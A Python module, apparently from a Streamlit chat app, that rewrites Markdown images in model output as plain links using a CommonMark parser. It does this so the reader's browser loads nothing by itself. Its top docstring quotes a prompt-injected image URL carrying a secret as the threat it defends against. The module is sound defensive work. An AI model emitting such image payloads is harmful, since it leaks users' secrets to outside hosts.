"""Model output as Markdown that loads nothing by itself: every image becomes a plain link (a prompt-injected
`![x](https://host/?secret=...)` would otherwise be fetched by the reader's browser). Which `!` starts an image is
decided by a CommonMark parser reading the text as Streamlit's renderer does (core.ui.chat.markdown_syntax), never by
patterns: code spans and blocks are untouched, and only those `!` change. Stored text is never changed."""

from __future__ import annotations

import re
import textwrap
import time
from collections.abc import Iterable, Iterator
from functools import lru_cache

from markdown_it import MarkdownIt
from markdown_it.token import Token

from core.ui.chat.markdown_breaks import hard_breaks
from core.ui.chat.markdown_syntax import math_enabled, new_env, parser

# Blocks whose lines are accounted for; a line outside all of them (a reference definition, content past the
# nesting limit) gets no benefit of the doubt: every "![" on it counts as an image.
_BLOCKS = frozenset({"paragraph_open", "heading_open", "fence", "code_block", "html_block", "hr", "table_open",
                     "math_block", "directive_line"})
_CELLS = frozenset({"th_open", "td_open"})
EXACT_LIMIT = 200_000  # characters: a longer text is not parsed at all (every "![" counts, code included)
# markdown-it looks for the end of a link's text from every "[" to the end of its paragraph: a paragraph of many
# brackets costs their number times its length. Past this, its "![" all count (code spans included) unparsed.
_LABEL_WORK = 3_000_000
# A table's delimiter row. GitHub tables differ between parsers (the browser's takes a header row without any `|`,
# markdown-it does not), and a table splits a code span at every `|`: where one may be, the text is also read without
# tables and with every candidate header row given a `|`.
_DELIMITER_ROW = re.compile(r"^[ \t]*\|?[ \t]*:?-+:?[ \t]*(?:\|[ \t]*:?-+:?[ \t]*)*\|?[ \t]*$", re.MULTILINE)


def _starts(line: str, offset: int) -> set[int]:
    """Ordinals of the "!" of every "![" on a line whose first "!" has ordinal offset."""
    found, at = set(), line.find("![")
    while at >= 0:
        found.add(offset + line.count("!", 0, at))
        at = line.find("![", at + 1)
    return found


def _inline_images(md: MarkdownIt, env: dict, token: Token, cell: bool, before: list[int],  # type: ignore[type-arg]
                   cursors: dict[tuple[int, int], int]) -> set[int] | None:
    """Ordinals of the "!" that start an image in one inline token (a paragraph, heading, cell or label);
    None when its text does not line up with its lines."""
    env["_found"], env["_base"] = [], [0]
    md.inline.parse(token.content, md, env, [])
    content, (first, last) = token.content, token.map or (0, 0)
    total = content.count("!")
    if cell or token.meta.get("align") == "start":  # cells and labels: their "!" come first on their line
        key = (first, last)
        base = cursors[key] = cursors.get(key, before[first])
        cursors[key] += total
    else:  # paragraphs and headings end their lines; what precedes them (a footnote's label) may hold a "!"
        base = before[last] - total
    if base < before[first] or base + total > before[last]:
        return None
    return {base + content.count("!", 0, at) for at in env["_found"]}


def _image_ordinals(shown: str, *, extensions: bool, tables: bool = True, raw_blocks: bool = True) -> set[int]:
    """Ordinals (the k-th "!" of the text) of the "!" that start an image in one reading of shown."""
    math = extensions and math_enabled(shown)
    md, env = parser(extensions=extensions, math=math, tables=tables, raw_blocks=raw_blocks), new_env()
    tokens = md.parse(shown, env)
    lines = shown.split("\n")
    before = [0]
    for line in lines:
        before.append(before[-1] + line.count("!"))
    covered: set[int] = set()
    found: set[int] = set()
    cursors: dict[tuple[int, int], int] = {}
    for index, token in enumerate(tokens):
        if token.map and (token.type in _BLOCKS or token.type == "inline"):
            covered.update(range(*token.map))
        if token.type == "inline" and token.map:
            cell = index > 0 and tokens[index - 1].type in _CELLS
            work = (token.content.count("[") + token.content.count("{")) * len(token.content)
            images = None if work > _LABEL_WORK else _inline_images(md, env, token, cell, before, cursors)
            if images is None:  # too costly to parse, or not lined up with its lines: every "![" there counts
                images = set().union(*(_starts(lines[n], before[n]) for n in range(*token.map)))
            found |= images
    for index, line in enumerate(lines):
        if index not in covered and "![" in line:
            found |= _starts(line, before[index])
    return found


def _piped_headers(shown: str) -> str:
    """shown with each line that a delimiter row follows made a header row markdown-it accepts: unindented (the
    browser takes a paragraph's indented last line) and ending in " |" (no "!" added, as many lines)."""
    lines = shown.split("\n")
    for index in range(len(lines) - 1):
        if lines[index].strip() and _DELIMITER_ROW.fullmatch(lines[index + 1]):
            lines[index] = lines[index].lstrip() + ("" if "|" in lines[index] else " |")
    return "\n".join(lines)


def _image_starts(text: str) -> list[int]:
    """Where in text each "!" that starts an image is, as the browser will read what st.markdown sends it."""
    if "![" not in text:
        return []
    if len(text) > EXACT_LIMIT:
        return [at for at in range(len(text) - 1) if text.startswith("![", at)]
    # st.markdown dedents and strips; markdown-it folds CR LF. Neither adds nor drops a "!": ordinals carry over.
    shown = textwrap.dedent(text).strip().replace("\r\n", "\n").replace("\r", "\n")
    # An image in any of these readings counts: CommonMark alone (in case an extension is read too greedily), with
    # the browser's extensions, and with raw blocks read as paragraphs; where a table may be, also without tables
    # and with every candidate header row piped.
    readings = [(shown, {"extensions": False}), (shown, {"extensions": True}),
                (shown, {"extensions": True, "raw_blocks": False})]
    if any("|" in row.group() for row in _DELIMITER_ROW.finditer(shown)):
        readings += [(shown, {"extensions": extensions, "tables": False}) for extensions in (False, True)]
        if (piped := _piped_headers(shown)) != shown:
            readings += [(piped, {"extensions": extensions}) for extensions in (False, True)]
    try:
        ordinals: set[int] = set().union(*(_image_ordinals(reading, **options) for reading, options in readings))
    except Exception:  # the parser failing on some text (nesting too deep) must not show it: every "![" counts
        ordinals = _starts(shown, 0)
    bangs = [at for at, char in enumerate(text) if char == "!"]
    return sorted(bangs[k] for k in ordinals if k < len(bangs))


def _escaped(text: str, at: int) -> bool:
    """True when the character at `at` follows an odd number of backslashes."""
    slashes = 0
    while at - slashes > 0 and text[at - slashes - 1] == "\\":
        slashes += 1
    return slashes % 2 == 1


def _as_links(text: str) -> str:
    starts = _image_starts(text)
    dropped = set(starts)
    out, at = [], 0
    for start in starts:
        kept = start - 1
        if kept >= at and text[kept] == "!" and kept not in dropped and not _escaped(text, kept):
            out.append(text[at:kept] + "\\!")  # `!![x](u)`: the "!" before would start the image now
        else:
            out.append(text[at:start])
        at = start + 1
    out.append(text[at:])
    return "".join(out)


@lru_cache(maxsize=512)  # a conversation's messages are shown again on every rerun
def images_as_links(text: str) -> str:
    """The text with every Markdown image turned into a plain link (its "!" dropped); all else byte-identical."""
    return _as_links(text)


@lru_cache(maxsize=512)
def display(text: str) -> str:
    """A message as the page shows it: images as links, single newlines as line breaks (stored text unchanged).
    While a reply streams, each snapshot of stream_images_as_links is shown through hard_breaks: the same."""
    return hard_breaks(images_as_links(text))


def stream_images_as_links(deltas: Iterable[str], *, every: float = 0.1) -> Iterator[str]:
    """While a reply streams, the text to show so far: snapshots, each replacing the last (not pieces to append).

    Each is images_as_links of everything received until then, at most every `every` seconds (less often for long
    texts, so parsing takes a fifth of a core at most), and the last is always images_as_links of the whole reply:
    what is shown at the end does not depend on how the reply was cut into deltas."""
    seen, shown, due = "", "", 0.0
    for delta in deltas:
        seen += delta
        if time.monotonic() >= due:
            started = time.monotonic()
            snapshot = _as_links(seen)  # not kept in images_as_links' cache: the stored reply will be
            due = started + max(every, 5 * (time.monotonic() - started))
            if snapshot != shown:
                shown = snapshot
                yield snapshot
    final = images_as_links(seen)
    if final != shown:
        yield final
